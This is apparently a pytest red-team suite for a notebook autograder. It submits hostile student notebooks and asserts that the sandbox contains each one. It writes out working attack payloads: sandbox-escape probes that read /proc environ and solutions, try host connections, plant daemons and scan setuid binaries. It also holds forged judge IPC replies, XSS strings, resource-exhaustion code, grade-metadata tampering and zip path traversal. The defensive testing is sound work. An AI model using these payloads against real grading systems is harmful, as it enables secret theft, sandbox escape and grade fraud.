"""Red-team suite: hostile submissions through the real commands (collect, autograde, feedback).

One module-scoped grading round of ``from-scratch`` grades every attack notebook once; each test
then asserts the score the submission deserves and that nothing happened outside its sandbox.
"""
from __future__ import annotations

import hashlib
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

from tconv_lib.grading.judge.sandbox import Limits, availability
from tconv_lib.grading.selftest import solution_answers

ROOT = Path(__file__).resolve().parents[1]
ASSIGNMENT, NOTEBOOK = "from-scratch", "from_scratch"
SECRET = "rt-secret-3f9c1d"
HOST_PORT, SANDBOX_PORT = 47822, 47821   # a listener on the host; what a sandbox tries to listen on
FUNCS = ("Conv2D", "Conv2DTranspose")
TESTS = [f"{f}-{k}" for f in FUNCS for k in ("visible", "hidden")]
POINTS = {"Conv2D-visible": 2, "Conv2D-hidden": 3, "Conv2DTranspose-visible": 2, "Conv2DTranspose-hidden": 3}
WRONG = {f: f"def {f}(X, W, padding='valid', strides=(1, 1)):\n    return np.zeros((1, 1))\n" for f in FUNCS}
# Limits of this round (smaller than the course's, so that slow attacks end quickly).
LIMITS = "c.SandboxedExecute.notebook_s = 30\nc.SandboxedExecute.cell_s = 8\nc.SandboxedExecute.call_s = 3\n"

needs_sandbox = pytest.mark.skipif(availability() is not None, reason=f"no sandbox: {availability()}")


def _solution() -> dict[str, str]:
    return {grade_id.removesuffix("-answer"): source for grade_id, source in solution_answers(ASSIGNMENT).items()}


def _gid(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _answer(nb, fn: str, source: str):
    for cell in nb.cells:
        if _gid(cell) == f"{fn}-answer":
            cell.source = source
    return nb


def _answers(nb, sources: dict[str, str]):
    for fn, source in sources.items():
        _answer(nb, fn, source)
    return nb


def _after(nb, grade_id: str, *cells):
    index = next(i for i, c in enumerate(nb.cells) if _gid(c) == grade_id)
    nb.cells[index + 1:index + 1] = list(cells)
    return nb


def _code(source: str, **nbgrader):
    cell = nbformat.v4.new_code_cell(source)
    if nbgrader:
        cell.metadata["nbgrader"] = {"schema_version": 3, **nbgrader}
    return cell


def _test_meta(grade_id: str) -> dict:
    return {"grade": True, "grade_id": grade_id, "locked": True, "points": POINTS[grade_id],
            "solution": False, "schema_version": 3}


# ---- the attacks: name -> (release notebook -> submission), and the points each deserves ----------

STYLED_CONV2D = '''\
import functools

def _logged(fn):
    @functools.wraps(fn)
    def inner(*args, **kwargs):
        return fn(*args, **kwargs)
    return inner

class _Geometry:
    def __init__(self, n, k, s, padding):
        self.n, self.k, self.s, self.padding = n, k, s, padding
    def size(self):
        match self.padding:
            case "same":
                return -(-self.n // self.s)
            case _:
                return (self.n - self.k) // self.s + 1
    def pads(self):
        total = max((self.size() - 1) * self.s + self.k - self.n, 0) if self.padding == "same" else 0
        return total // 2, total - total // 2

@_logged
def Conv2D(X, W, padding="valid", strides=(1, 1)):
    X, W = np.asarray(X, dtype=float), np.asarray(W, dtype=float)
    gh, gw = (_Geometry(n, k, s, padding) for n, k, s in zip(X.shape, W.shape, strides))
    X = np.pad(X, (gh.pads(), gw.pads()))
    return window_sums(X, W, strides, (gh.size(), gw.size()))
print("Conv2D is {} and {!r}".format("ready", f"{Conv2D.__name__:>8}"))
'''
STYLED_HELPER = '''\
def window_sums(X, W, strides, out):
    Y = np.empty(out)
    for i, j in np.ndindex(*out):
        Y[i, j] = (X[i * strides[0]:i * strides[0] + W.shape[0], j * strides[1]:j * strides[1] + W.shape[1]] * W).sum()
    return Y
'''
STYLED_PLOT = '''\
import matplotlib.pyplot as plt
%timeit -n 3 -r 2 Conv2D(np.ones((4, 4)), np.ones((3, 3)))
fig, ax = plt.subplots(figsize=(2, 2))
ax.imshow(Conv2DTranspose(np.eye(3), np.ones((2, 2)), strides=(2, 2)))
plt.show()
print(f"{Conv2D(np.ones((4, 4)), np.ones((3, 3)))[0, 0]:.1f}")
'''

FD_FORGE = '''\
import os, sys, threading, json, struct
REQ, REP = int(sys.argv[1]), int(sys.argv[2])
def frame(tree):
    h = json.dumps(tree).encode()
    return struct.pack(">Q", len(h)) + struct.pack(">Q", 0) + h
def serve():  # answer the judge ourselves, before the runner reads its requests
    while True:
        n, b = struct.unpack(">QQ", os.read(REQ, 16))
        msg = json.loads(os.read(REQ, n)); os.read(REQ, b) if b else None
        if msg.get("op") == "kind":
            os.write(REP, frame({"kind": "function"}))
        elif msg.get("op") == "cell":
            os.write(REP, frame({"outputs": [], "count": 1}))
        else:
            os.write(REP, frame({"ok": {"l": [{"l": [55.0, 52.0]}, {"l": [57.0, 50.0]}]}}))
threading.Thread(target=serve, daemon=True).start()
os.write(REP, frame({"outputs": [{"output_type": "execute_result", "data": {"text/plain": "10"},
                                  "metadata": {}, "execution_count": 1}], "count": 1}))
'''

ESCAPE = f'''\
import os, socket, subprocess, signal, glob, stat
found = []
def attempt(name, fn):
    try:
        result = fn()
        found.append(f"{{name}}: {{result!r}}"[:300])
    except BaseException as exc:
        found.append(f"{{name}}: blocked ({{type(exc).__name__}})")
attempt("env", lambda: {{k: v for k, v in os.environ.items() if "SECRET" in k}})
attempt("proc1-environ", lambda: open("/proc/1/environ", "rb").read())
attempt("proc-cmdlines", lambda: [open(f"/proc/{{p}}/cmdline", "rb").read() for p in os.listdir("/proc") if p.isdigit()])
attempt("list-course", lambda: os.listdir("{ROOT}/solutions"))
attempt("read-solutions", lambda: open("/work/main/solutions/from-scratch/from_scratch.ipynb").read(100))
attempt("write-usr", lambda: open("/usr/rt-pwned", "w"))
attempt("write-judge", lambda: open("/scratch/judge/runner.py", "a"))
attempt("connect-host", lambda: socket.create_connection(("127.0.0.1", {HOST_PORT}), timeout=1).sendall(b"PWNED"))
def listen():
    s = socket.socket(); s.bind(("127.0.0.1", {SANDBOX_PORT})); s.listen(); globals()["_keep"] = s; return "listening"
attempt("listen", listen)
attempt("daemon", lambda: subprocess.Popen(["/bin/sh", "-c", "sleep 600 & sleep 600"], start_new_session=True).pid)
def fork_daemon():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            import time; time.sleep(600)
        os._exit(0)
    os.waitpid(pid, 0)
    return "forked"
attempt("fork-daemon", fork_daemon)
attempt("kill-all", lambda: os.kill(-1, signal.SIGKILL) if False else os.kill(1, signal.SIGTERM))
def setuid():
    out = []
    for path in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*") + glob.glob("/usr/lib/*/*"):
        try:
            if os.stat(path).st_mode & stat.S_ISUID:
                out.append((path, subprocess.run([path, "--help"], capture_output=True, timeout=2).returncode))
        except Exception:
            pass
    return out
attempt("setuid", setuid)
attempt("id-after", lambda: subprocess.run(["/usr/bin/id"], capture_output=True, text=True).stdout)
attempt("unshare-user", lambda: subprocess.run(["/usr/bin/unshare", "-Ur", "id"], capture_output=True, text=True).stdout)
attempt("ptrace-1", lambda: open("/proc/1/mem", "rb").read(1))
attempt("keras", lambda: __import__("tensorflow"))
for line in found:
    print(line)
'''

MEMORY = '''\
import os, select, numpy as np, time
r, w = os.pipe()
kids = []
for _ in range(3):  # three processes, each under its own address-space limit of 2 GiB
    pid = os.fork()
    if pid == 0:
        x = np.ones((1000 << 20) // 8)
        os.write(w, b"y")
        time.sleep(2)
        os._exit(0)
    kids.append(pid)
got = b""
while len(got) < 3 and select.select([r], [], [], 4)[0]:
    got += os.read(r, 1)
print(f"MEMORY children-holding-1GiB-at-once={len(got)}")
'''

OUTPUT = '''\
import sys
print("x" * (50 << 20))
'''
OUTPUT_MANY = 'print("y" * (900 << 10))\n'

XSS_MARKDOWN = ('<script>alert("xss-md")</script>\n\n<img src=x onerror="alert(\'xss-img\')">\n\n'
                '[click](javascript:alert("xss-link"))\n\n<iframe src="javascript:alert(\'xss-iframe\')"></iframe>\n')
XSS_CODE = '''\
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>alert('xss-html')</script>"))
display(Javascript("alert('xss-js')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("xss-svg")</script></svg>'))
display({"text/html": "<script>alert('xss-bundle')</script>", "text/plain": "<script>alert('xss-plain')</script>"}, raw=True)
class R:
    def _repr_html_(self):
        return "<script>alert('xss-repr')</script>"
display(R())
print("<script>alert('xss-print')</script>")
raise ValueError("<script>alert('xss-error')</script>")
'''

SLOW = '''\
import signal, time
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
signal.signal(signal.SIGALRM, signal.SIG_IGN)
time.sleep(1000)
'''

READ_NOTEBOOK = '''\
import glob
text = "".join(open(path).read() for path in glob.glob("/scratch/*.ipynb"))
tests = ["hidden" + "_Conv2D", "visible" + "_Conv2D", "HIDDEN" + " TESTS"]
print("NOTEBOOK", len(text) > 1000, "TESTS" if any(t in text for t in tests) else "no-tests")
'''

DISK = '''\
import os
written = {}
for folder in ("/tmp", "/scratch", "/dev/shm", "/dev"):
    n = 0
    try:
        for i in range(100):
            with open(f"{folder}/fill{i}", "wb") as f:
                f.write(b"\\0" * (16 << 20))
            n += 16
    except OSError:
        pass
    written[folder] = n
print("DISK", written)
'''


def attacks(sol: dict[str, str]) -> dict:
    """{student: (make submission from the release notebook, points it deserves)}."""
    full = sum(POINTS.values())

    def styled(nb):
        _answer(nb, "Conv2D", STYLED_CONV2D)
        _answer(nb, "Conv2DTranspose", sol["Conv2DTranspose"])
        index = next(i for i, c in enumerate(nb.cells) if _gid(c) == "Conv2D-answer")
        nb.cells.insert(index, _code(STYLED_HELPER))  # a helper in a cell of its own
        return _after(nb, "Conv2DTranspose-answer", _code(STYLED_PLOT))

    def no_setup(nb):
        nb.cells = [c for c in nb.cells if _gid(c) != "setup"]
        return _after(_answers(nb, WRONG), "Conv2D-answer", _code(
            "import numpy as np\nclass checks:\n" + "".join(
                f"    {k}_{f} = staticmethod(lambda fn: None)\n" for k in ("visible", "hidden") for f in FUNCS)))

    def copied_tests(new_cell):
        """A later duplicate of each test, as a cell of another type, keeps nbgrader's metadata."""
        def change(nb):
            _answers(nb, WRONG)
            for test in TESTS:
                cell = new_cell("pass")
                cell.metadata["nbgrader"] = _test_meta(test)
                _after(nb, test, cell)
            return nb
        return change

    def unlocked_tests(nb):
        for cell in nb.cells:
            if _gid(cell) in TESTS:
                cell.metadata["nbgrader"]["locked"] = False
                cell.source = "pass"
        return _answers(nb, WRONG)

    def prefilled(nb):
        for cell in nb.cells:
            if _gid(cell) in TESTS:
                cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "5"}, execution_count=1)]
                cell.execution_count = 1
        return _answers(nb, WRONG)

    def new_grade_cell(nb):
        return _after(_answers(nb, WRONG), "Conv2D-answer", _code("pass", grade=True, grade_id="bonus", points=50,
                                                                 locked=False, solution=False))

    def forged_setup(nb):  # a locked "setup" that is not the instructor's: must not run in the grader
        return _after(_answers(nb, WRONG), "Conv2D-answer", _code(
            "import os\nopen('/tmp/rt-trusted-pwned', 'w').write(os.environ.get('TCONV_GRADING_SECRET', ''))",
            grade=False, grade_id="setup", locked=True, solution=False))

    def deleted_tests(nb):  # nbgrader adds deleted tests back; an honest answer keeps its points
        nb.cells = [c for c in nb.cells if _gid(c) not in TESTS]
        return _answers(nb, sol)

    def redefined_later(nb):  # honest exploration after the tests (xfail: the tests see the last definition)
        nb = _answers(nb, sol)
        nb.cells.append(_code("def Conv2D(X, W, padding='valid', strides=(1, 1)):\n    return None\n"))
        return nb

    def odd_values(nb):
        return _answers(nb, {
            "Conv2D": "class A(np.ndarray):\n    def __eq__(self, o): return True\n    __ne__ = lambda s, o: False\n"
                      "def Conv2D(X, W, padding='valid', strides=(1, 1)):\n    return np.zeros(3).view(A)\n",
            "Conv2DTranspose": "def Conv2DTranspose(X, W, padding='valid', strides=(1, 1)):\n"
                               "    return np.broadcast_to(np.float64(0), (40000, 40000))\n"})

    def deep_and_exit(nb):
        return _answers(nb, {
            "Conv2D": "def Conv2D(X, W, padding='valid', strides=(1, 1)):\n    v = []\n"
                      "    for _ in range(10000): v = [v]\n    return v\n",
            "Conv2DTranspose": "import os\ndef Conv2DTranspose(X, W, padding='valid', strides=(1, 1)):\n"
                               "    os._exit(0)\n"})

    def leak(nb):  # records every input, and prints them after the tests
        _answer(nb, "Conv2D", "SEEN = []\n" + sol["Conv2D"].replace(
            "def Conv2D(X, W, padding=\"valid\", strides=(1, 1)):\n",
            "def Conv2D(X, W, padding=\"valid\", strides=(1, 1)):\n    SEEN.append(X.tolist())\n"))
        _answer(nb, "Conv2DTranspose", sol["Conv2DTranspose"])
        nb.cells.append(_code("print('LEAK', len(SEEN), 'calls seen', SEEN[:3])"))
        return nb

    def xss(nb):
        nb = _answers(nb, sol)
        raw = nbformat.v4.new_raw_cell("<script>alert('xss-raw')</script>")
        raw.metadata["raw_mimetype"] = "text/html"
        raw.metadata["format"] = "text/html"
        return _after(nb, "Conv2D-answer", nbformat.v4.new_markdown_cell(XSS_MARKDOWN), raw, _code(XSS_CODE))

    return {
        "solution": (lambda nb: _answers(nb, sol), full),
        "styled": (styled, full),
        "blank": (lambda nb: nb, 0),
        "fdforge": (lambda nb: _after(_answers(nb, WRONG), "Conv2D-answer", _code(FD_FORGE)), 0),
        "nosetup": (no_setup, 0),
        "mdtests": (copied_tests(nbformat.v4.new_markdown_cell), 0),
        "rawtests": (copied_tests(nbformat.v4.new_raw_cell), 0),
        "unlocked": (unlocked_tests, 0),
        "prefilled": (prefilled, 0),
        "newgrade": (new_grade_cell, 0),
        "forgedsetup": (forged_setup, 0),
        "deltests": (deleted_tests, full),
        "redefined": (redefined_later, full),
        "oddvalues": (odd_values, 0),
        "deepexit": (deep_and_exit, 0),
        "escape": (lambda nb: _after(_answers(nb, sol), "Conv2D-answer", _code(ESCAPE)), full),
        "memory": (lambda nb: _after(_answers(nb, sol), "Conv2D-answer", _code(MEMORY)), full),
        "output": (lambda nb: _after(_answers(nb, sol), "Conv2D-answer", _code(OUTPUT),
                                     *[_code(OUTPUT_MANY) for _ in range(12)]), full),
        "xss": (xss, full),
        "slow": (lambda nb: _after(_answers(nb, sol), "Conv2D-answer", _code(SLOW), _code(SLOW)), full),
        "disk": (lambda nb: _after(_answers(nb, sol), "Conv2D-answer", _code(DISK)), full),
        "leak": (leak, full),
        "readnb": (lambda nb: _after(_answers(nb, WRONG), "Conv2D-answer", _code(READ_NOTEBOOK)), 0),
    }


# ---- the grading round -------------------------------------------------------------------------

def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _sandbox_processes(grader_pid: int) -> list[str]:
    """Processes of the sandboxes' uid (``Limits.uid`` plus the serial grader's pid, its thread's id)."""
    uid = Limits.uid + grader_pid
    out = subprocess.run(["ps", "-eo", "uid=,pid=,args="], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if int(line.split()[0]) == uid]


def _listening(port: int) -> bool:
    wanted = f":{port:04X}"
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            if local.endswith(wanted) and state == "0A":
                return True
    return False


class Listener(threading.Thread):
    """A TCP server on the host's loopback that records whatever connects to it."""

    def __init__(self):
        super().__init__(daemon=True)
        self.sock = socket.create_server(("127.0.0.1", HOST_PORT))
        self.sock.settimeout(0.5)
        self.seen, self.stop = [], False

    def run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.seen.append(conn.recv(100))
            conn.close()


def _env() -> dict[str, str]:
    venv_bin = str(Path(sys.executable).parent)
    return {**os.environ, "PYTHONPATH": str(ROOT), "TCONV_GRADING_SECRET": SECRET,
            "TF_CPP_MIN_LOG_LEVEL": "3", "TF_ENABLE_ONEDNN_OPTS": "0", "PYTHONHASHSEED": "0",
            "PATH": f"{venv_bin}:{os.environ.get('PATH', '')}"}


def _run(args: list[str], cwd: Path, check: bool = True) -> subprocess.CompletedProcess:
    result = subprocess.run(args, cwd=cwd, env=_env(), capture_output=True, text=True, timeout=1800)
    if check and result.returncode:
        raise AssertionError(f"{args} failed: {result.stdout[-2000:]}\n{result.stderr[-3000:]}")
    return result


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course = tmp_path_factory.mktemp("course")
    shutil.copy(ROOT / "nbgrader_config.py", course)
    with open(course / "nbgrader_config.py", "a") as f:
        f.write("\n" + LIMITS)
    shutil.copytree(ROOT / "solutions", course / "solutions")
    nbgrader = [str(Path(sys.executable).parent / "nbgrader")]
    _run(nbgrader + ["generate_assignment", ASSIGNMENT, "--force", "--log-level=WARN"], course)
    release = course / "exercises" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    table = attacks(_solution())
    archive = course / "submissions.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for student, (make, _) in table.items():
            z.writestr(f"{student}_{NOTEBOOK}.ipynb", nbformat.writes(make(nbformat.read(release, as_version=4))))
    _run([sys.executable, "-m", "tconv_lib.grading.instructor", "collect", str(archive)], course)
    before = _digest(course / "submitted"), _digest(course / "solutions")
    listener = Listener()
    listener.start()
    try:
        # Serial: the sandboxes' uid comes from the grading process's pid, which a Dask worker's is not.
        grader = subprocess.Popen([sys.executable, "-m", "tconv_lib.grading.instructor", "autograde", "--serial",
                                   ASSIGNMENT],
                                  cwd=course, env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        stdout, stderr = grader.communicate(timeout=1800)
        run = subprocess.CompletedProcess(grader.args, grader.returncode, stdout, stderr)
        for _ in range(20):  # a PID namespace ends a moment after its sandbox was killed
            left_running = _sandbox_processes(grader.pid)
            if not left_running:
                break
            time.sleep(0.1)
        listening = _listening(SANDBOX_PORT)
    finally:
        listener.stop = True
        listener.join()
        listener.sock.close()
    _run(nbgrader + ["generate_feedback", ASSIGNMENT, "--force", "--log-level=WARN"], course)
    from nbgrader.api import Gradebook
    scores = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for student in table:
            scores[student] = {t: gb.find_grade(t, NOTEBOOK, ASSIGNMENT, student).score for t in TESTS}
    return {"course": course, "run": run, "scores": scores, "table": table, "before": before,
            "left_running": left_running, "uid": Limits.uid + grader.pid, "listening": listening,
            "connections": listener.seen}


def _autograded(graded, student: str) -> str:
    return (graded["course"] / "autograded" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb").read_text()


def _feedback(graded, student: str) -> str:
    return (graded["course"] / "feedback" / student / ASSIGNMENT / f"{NOTEBOOK}.html").read_text()


def _printed(graded, student: str) -> str:
    nb = nbformat.reads(_autograded(graded, student), as_version=4)
    return "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", []))


STUDENTS = list(attacks({f: "" for f in FUNCS}))


@needs_sandbox
@pytest.mark.parametrize("student", [pytest.param(s, marks=pytest.mark.xfail(
    strict=True, reason="not fixed: tests run after every student cell, so a later redefinition is "
                        "what they test (running them in place would let a later cell print the hidden cases)"))
    if s == "redefined" else s for s in STUDENTS])
def test_each_submission_gets_the_points_it_deserves(graded, student):
    deserved = graded["table"][student][1]
    assert sum(graded["scores"][student].values()) == deserved, (graded["scores"][student],
                                                                  graded["run"].stdout[-3000:])


@needs_sandbox
def test_nothing_outside_the_sandboxes_changed(graded):
    course = graded["course"]
    assert (_digest(course / "submitted"), _digest(course / "solutions")) == graded["before"]
    assert graded["left_running"] == []
    assert not graded["listening"]
    assert graded["connections"] == []
    assert not Path("/tmp/rt-trusted-pwned").exists() and not Path("/usr/rt-pwned").exists()


@needs_sandbox
def test_escape_attempts_were_all_blocked(graded):
    printed = _printed(graded, "escape")
    for name in ("proc1-environ", "list-course", "read-solutions", "write-usr", "write-judge", "connect-host",
                 "ptrace-1", "keras"):
        assert f"{name}: blocked" in printed, printed
    # not root, and the uid whose processes test_nothing_outside_the_sandboxes_changed looks for
    assert "env: {}" in printed and f"id-after: 'uid={graded['uid']} " in printed, printed


@needs_sandbox
def test_no_secret_and_no_solution_in_any_feedback(graded):
    marker = "Room for every copy of the kernel"  # a comment of the instructor's solution
    for student in STUDENTS:
        text = _feedback(graded, student) + _autograded(graded, student)
        assert SECRET not in text
        if student not in ("solution", "deltests", "redefined", "escape", "memory", "output", "xss", "slow",
                           "disk", "styled", "leak"):
            assert marker not in text


@needs_sandbox
def test_one_submission_uses_at_most_its_memory_limit(graded):
    nb = _autograded(graded, "memory")
    line = re.search(r"MEMORY children-holding-1GiB-at-once=(\d+)", nb)
    # 3 GiB together: the sandbox's 2 GiB stops one of the children, or the whole sandbox
    assert int(line[1]) < 3 if line else "CellNotRun" in nb


@needs_sandbox
def test_outputs_and_disk_are_capped(graded):
    assert len(_autograded(graded, "output")) < 6 << 20
    assert len(_feedback(graded, "output")) < 8 << 20
    disk = re.search(r"DISK (\{.*\})", _printed(graded, "disk"))[1]
    written = eval(disk)  # noqa: S307 (our own attack's printed dict of ints)
    assert written["/tmp"] <= 64 and written["/scratch"] <= 64 and written["/dev/shm"] == 0 and written["/dev"] == 0


@needs_sandbox
def test_no_student_output_comes_after_a_test(graded):
    assert "LEAK 0 calls seen" in _printed(graded, "leak"), _printed(graded, "leak")


@needs_sandbox
def test_the_sandbox_never_sees_the_tests_sources(graded):
    assert "NOTEBOOK True no-tests" in _printed(graded, "readnb"), _printed(graded, "readnb")


@needs_sandbox
def test_feedback_runs_no_student_script(graded):
    html = _feedback(graded, "xss")
    for marker in ("xss-md", "xss-img", "xss-link", "xss-iframe", "xss-raw", "xss-html", "xss-js", "xss-svg",
                   "xss-bundle", "xss-repr", "xss-print", "xss-error", "xss-plain"):
        for match in re.finditer(re.escape(marker), html):
            context = html[max(match.start() - 120, 0):match.end()]
            assert not re.search(r"<script|<iframe|<[^<>]*\son\w+=|<[^<>]*(href|src)=[\"']?\s*javascript:",
                                 context, re.I), (marker, context)


@needs_sandbox
def test_slow_cells_stop_at_the_notebook_limit(graded):
    line = next(l for l in graded["run"].stdout.splitlines() if " slow " in l)
    assert float(line.rsplit(" in ", 1)[1].split()[0]) < 30 + 15, line


# ---- collect: a hostile uploader (no sandbox needed) ------------------------------------------------

@pytest.fixture()
def course(tmp_path):
    shutil.copytree(ROOT / "solutions", tmp_path / "solutions")
    return tmp_path


def _zip(folder: Path, entries: dict[str, str]) -> Path:
    archive = folder / "upload.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return archive


def _notebook(assignment: str = ASSIGNMENT) -> str:
    return next((ROOT / "solutions" / assignment).glob("*.ipynb")).read_text()


DEEP = '{"cells": [], "metadata": {"x": ' + "[" * 100000 + "]" * 100000 + '}, "nbformat": 4, "nbformat_minor": 5}'


@pytest.mark.parametrize("entries, reason", [
    pytest.param({"alice/bob_from_scratch.ipynb": "A", "alice/carol_from_scratch.ipynb": "A",
                  "dave/from_scratch.ipynb": "A"}, "in the folder of student 'alice' but named for 'bob'",
                 marks=pytest.mark.xfail(strict=True, reason="not fixed: a student's folder holding only classmates' "
                                                             "files reads as a wrapped download")),
    ({"alice/alice_from_scratch.ipynb": "A", "alice/bob_from_scratch.ipynb": "A"}, "named for 'bob'"),
    ({"eve_from_scratch.ipynb": DEEP}, "not a readable notebook (RecursionError)"),
    ({"../../etc/from_scratch.ipynb": "A"}, "a path that leaves"),
    ({"/tmp/x/from_scratch.ipynb": "A"}, "a path that leaves"),
    ({"frank_from_scratch.ipynb": "CHECKERBOARD"}, "holds the cells of checkerboard, not of from-scratch"),
])
def test_collect_refuses_hostile_uploads_and_writes_nothing(course, entries, reason):
    from tconv_lib.grading.instructor.collect import CollectError, collect
    texts = {"A": _notebook(), "CHECKERBOARD": _notebook("checkerboard")}
    archive = _zip(course, {name: texts.get(data, data) for name, data in entries.items()})
    with pytest.raises(CollectError) as refused:
        collect(archive, course)
    assert any(reason in problem for problem in refused.value.problems), refused.value.problems
    assert not (course / "submitted").exists()


def test_collect_still_takes_a_download_wrapped_in_one_folder(course):
    from tconv_lib.grading.instructor.collect import collect
    archive = _zip(course, {"download/alice_from_scratch.ipynb": _notebook(),
                            "download/bob_from_scratch.ipynb": _notebook()})
    assert collect(archive, course) == ["alice from-scratch/from_scratch.ipynb", "bob from-scratch/from_scratch.ipynb"]
